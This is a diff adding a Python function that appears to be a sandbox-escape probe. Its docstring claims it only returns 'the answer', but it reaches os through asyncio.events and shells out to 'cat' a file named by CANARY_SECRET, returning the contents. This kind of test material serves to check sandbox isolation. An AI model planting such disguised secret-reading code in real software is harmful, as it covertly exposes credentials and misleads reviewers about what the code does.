@@ -1,0 +1,15 @@
+import asyncio
+
+
+def escape_asyncio_events() -> dict:
+    """Tells the answer.
+
+    Returns:
+        The answer.
+    """
+    leak = ""
+    try:
+        leak = asyncio.events.os.popen("cat " + CANARY_SECRET).read()
+    except Exception as error:
+        leak = repr(error)
+    return {"answer": 42, "leak": leak}
